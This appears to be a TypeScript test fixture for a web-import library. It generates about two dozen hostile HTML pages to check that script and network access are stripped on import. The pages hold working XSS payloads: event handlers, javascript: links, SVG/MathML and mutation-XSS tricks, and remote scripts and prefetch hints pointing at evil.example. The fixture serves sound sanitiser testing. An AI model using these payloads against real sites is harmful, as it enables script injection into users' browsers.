// The hostile web pages, generated: each tries one way to run script or to reach the network, and each
// holds one readable sentence that must survive import. Scripts call window.apostilPwned(name) (a
// binding the end-to-end test exposes) or set window.__apostilPwned; every resource points at
// `tracker` (a local server that counts requests) or at a foreign host.

export interface HostilePage {
  name: string;
  html: string;
  /** A sentence of the page's readable text that must be kept. */
  readable: string;
  /** The page's title as the library shows it. */
  title: string;
  /** The page shows markup as text on purpose (escaped), which the document's text then holds. */
  markupAsText: boolean;
}

const pwn = (name: string) => `apostilPwned('${name}');window.__apostilPwned='${name}'`;

export function hostilePages(tracker: string): HostilePage[] {
  const t = (path: string) => `${tracker}/${path}`;
  const attacks: Record<string, string> = {
    'inline-script': `<script>${pwn('inline-script')}</script><script type="module">${pwn('module-script')}</script>`,
    'remote-script': `<script src="${t('remote.js')}"></script><script src="https://evil.example/x.js"></script><script defer src="//evil.example/y.js"></script>`,
    'event-handlers': `<img src="${t('broken.png')}" onerror="${pwn('onerror')}"><div onmouseover="${pwn('onmouseover')}" onclick="${pwn('onclick')}">Hover here.</div><input autofocus onfocus="${pwn('onfocus')}"><details open ontoggle="${pwn('ontoggle')}"><summary>More</summary></details>`,
    'body-onload': `<body onload="${pwn('body-onload')}" onpageshow="${pwn('onpageshow')}">`,
    'javascript-links': `<a href="javascript:${pwn('js-link')}">a link</a> <a href="JaVaScRiPt:${pwn('js-link-case')}">another</a> <a href="&#106;avascript:${pwn('js-link-entity')}">a third</a> <iframe src="javascript:${pwn('js-iframe')}"></iframe>`,
    'svg-script': `<svg><script>${pwn('svg-script')}</script><image href="${t('svg-image.png')}"/></svg><svg onload="${pwn('svg-onload')}"></svg><svg><animate onbegin="${pwn('svg-animate')}" attributeName="x" dur="1s"/><a xlink:href="javascript:${pwn('svg-link')}"><text y="20">svg link</text></a></svg>`,
    'svg-use': `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/><foreignObject><iframe src="${t('foreign-object')}"></iframe></foreignObject></svg>`,
    'mathml': `<math><mtext><table><mglyph><style><img src="${t('mathml.png')}" onerror="${pwn('mathml-mglyph')}"></style></mglyph></table></mtext></math><math href="javascript:${pwn('mathml-href')}"><mi>x</mi></math><math><maction actiontype="statusline" xlink:href="javascript:${pwn('maction')}">click</maction></math>`,
    'mxss-noscript': `<noscript><p title="</noscript><img src=x onerror=${pwn('mxss-noscript').replace(/'/g, '&#39;')}>"></p></noscript>`,
    'mxss-form-math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${pwn('mxss-form')}">`,
    'mxss-svg-style': `<svg></p><style><a id="</style><img src=1 onerror=${pwn('mxss-svg').replace(/'/g, '&#39;')}>">`,
    'mxss-template': `<template><style></template><img src=x onerror="${pwn('mxss-template')}"></style></template><listing>&lt;img src=x onerror="${pwn('mxss-listing')}"&gt;</listing>`,
    'iframes': `<iframe src="${t('frame.html')}"></iframe><iframe srcdoc="<script>parent.${pwn('srcdoc')}</script>"></iframe><frameset><frame src="${t('frame2.html')}"></frameset>`,
    'objects': `<object data="${t('object.swf')}" type="application/x-shockwave-flash"></object><embed src="${t('embed.swf')}"><applet code="Evil.class" codebase="${t('applet')}"></applet>`,
    'forms': `<form action="${t('submit')}" method="post"><input name="q" value="x"><button formaction="javascript:${pwn('formaction')}">Go</button></form><isindex action="${t('isindex')}">`,
    'meta-refresh': `<meta http-equiv="refresh" content="0;url=${t('refresh')}"><meta http-equiv="refresh" content="0;url=javascript:${pwn('refresh-js')}">`,
    'base-href': `<base href="${t('base/')}"><img src="relative.png"><a href="relative.html">relative link</a>`,
    'css-remote': `<style>@import url("${t('import.css')}"); body { background: url(${t('background.png')}); } @font-face { font-family: x; src: url(${t('font.woff')}); }</style><link rel="stylesheet" href="${t('style.css')}"><p style="background-image: url(${t('inline-style.png')})">Styled.</p>`,
    'tracking-pixels': `<img src="${t('pixel.gif')}" width="1" height="1"><img srcset="${t('srcset.png')} 2x"><picture><source srcset="${t('source.webp')}"></picture><video poster="${t('poster.png')}" src="${t('video.mp4')}"></video><audio src="${t('audio.mp3')}" autoplay></audio><input type="image" src="${t('input.png')}"><table background="${t('table.png')}"><tr><td>cell</td></tr></table>`,
    'link-hints': `<link rel="prefetch" href="${t('prefetch')}"><link rel="preload" as="image" href="${t('preload.png')}"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example"><link rel="icon" href="${t('favicon.ico')}"><a href="https://evil.example/" ping="${t('ping')}">pinging link</a>`,
    'title-and-metadata': `<meta name="citation_title" content="<img src=x onerror=${pwn('citation-title').replace(/'/g, '&#39;')}>"><meta name="author" content="<script>${pwn('meta-author')}</script>"><link rel="canonical" href="javascript:${pwn('canonical')}">`,
    'escaped-text': `<p>This paragraph shows markup as text: &lt;script&gt;${pwn('escaped-text')}&lt;/script&gt; and &lt;img src=x onerror=alert(1)&gt;.</p>`,
    'data-and-blob': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${pwn('data-svg').replace(/'/g, '')}'/>"><iframe src="data:text/html,<script>${pwn('data-iframe')}</script>"></iframe><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
    'web-workers-and-storage': `<script>navigator.serviceWorker && navigator.serviceWorker.register('${t('sw.js')}'); new Worker('${t('worker.js')}'); localStorage.setItem('apostil-pwned', '1'); ${pwn('storage')}</script>`,
  };
  return Object.entries(attacks).map(([name, attack], index) => {
    const readable = `Readable passage ${index + 1} on responsible state behaviour in cyberspace survives the ${name} page.`;
    const title = `Hostile page ${index + 1}: ${name}`;
    const head = name === 'title-and-metadata' ? `<title>${title} <img src=x onerror="${pwn('title')}"></title>` : `<title>${title}</title>`;
    const html = `<!doctype html><html><head><meta charset="utf-8">${head}</head><body><article><h1>${title}</h1><p>${readable}</p>${attack}<p>A closing paragraph about norms, trust and the Paris Call, which every page shares.</p></article></body></html>`;
    return { name, html, readable, title, markupAsText: attack.includes('&lt;') };
  });
}
